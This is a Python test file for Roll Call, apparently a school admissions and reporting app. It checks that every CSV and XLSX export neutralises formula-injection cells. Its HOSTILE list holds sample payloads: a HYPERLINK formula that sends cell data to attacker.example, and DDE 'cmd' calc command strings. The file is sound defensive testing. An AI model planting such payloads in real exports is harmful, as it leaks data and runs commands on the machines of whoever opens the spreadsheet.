"""One cell guard for every CSV and XLSX Roll Call writes (CSV/formula injection, OWASP)."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rollcall.admissions.exports import csv_response, xlsx_response
from rollcall.formats import FORMULA_TRIGGERS, spreadsheet_cell, spreadsheet_row
from rollcall.reports import exports as report_exports
from rollcall.reports.documents import Headline, ReportDocument, Table

ROOT = Path(__file__).resolve().parents[2] / "rollcall"

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_shown_as_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@given(st.text())
def test_only_text_starting_with_a_formula_character_changes(text: str) -> None:
    guarded = spreadsheet_cell(text)
    if text.startswith(FORMULA_TRIGGERS):
        assert guarded == "'" + text
    else:
        assert guarded == text


def test_numbers_dates_and_blanks_pass_unchanged() -> None:
    day = dt.date(2026, 12, 6)
    assert spreadsheet_row([-3, 2.5, day, None, "Ada"]) == [-3, 2.5, day, None, "Ada"]


def _cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]


def _cells_of_xlsx(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        # XLSX escapes a carriage return as _x000D_; openpyxl hands it back escaped.
        str(cell.value).replace("_x000D_", "\r")
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _assert_no_live_formula(cells: list[str]) -> None:
    hostile = [c for c in cells if c.removeprefix("'") in HOSTILE]
    assert len(hostile) >= len(HOSTILE), cells
    assert all(c.startswith("'") for c in hostile), hostile


def test_the_admissions_csv_and_xlsx_guard_every_hostile_name() -> None:
    rows = [[name, dt.date(2026, 9, 1), 3] for name in HOSTILE]
    _assert_no_live_formula(_cells_of_csv(csv_response("x.csv", ["Name", "Date", "Year"], rows).content))
    _assert_no_live_formula(
        _cells_of_xlsx(xlsx_response("x.xlsx", "Applications", ["Name", "Date", "Year"], rows).content)
    )


def test_the_report_csv_and_xlsx_guard_every_hostile_name() -> None:
    table = Table("children", "Children", ("Name", "Days"), tuple((name, 4) for name in HOSTILE))
    doc = ReportDocument(
        slug="waiting",
        title="Waiting",
        period_label="December 2026",
        as_at=dt.date(2026, 12, 6),
        complete=False,
        summary="",
        headlines=(Headline("h", HOSTILE[0], 1),),
        tables=(table,),
        notes=(HOSTILE[1],),
    )
    _assert_no_live_formula(_cells_of_csv(report_exports.csv_bytes(table)))
    _assert_no_live_formula(_cells_of_xlsx(report_exports.xlsx_bytes(doc)))


def _writes_spreadsheets(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and (
            (node.attr == "writer" and isinstance(node.value, ast.Name) and node.value.id == "csv")
            or node.attr == "Workbook"
        ):
            return True
    return False


def _uses_the_guard(tree: ast.AST) -> bool:
    return any(
        isinstance(node, ast.ImportFrom)
        and node.module == "rollcall.formats"
        and {a.name for a in node.names} & {"spreadsheet_cell", "spreadsheet_row"}
        for node in ast.walk(tree)
    )


def test_every_module_that_writes_a_csv_or_xlsx_uses_the_one_guard() -> None:
    writers = []
    for path in sorted(ROOT.rglob("*.py")):
        if "migrations" in path.parts or "management" in path.parts:
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        if _writes_spreadsheets(tree):
            writers.append((path.relative_to(ROOT), _uses_the_guard(tree)))
    assert len(writers) >= 5, writers  # the scan finds the exporters it is meant to check
    assert [str(p) for p, guarded in writers if not guarded] == []
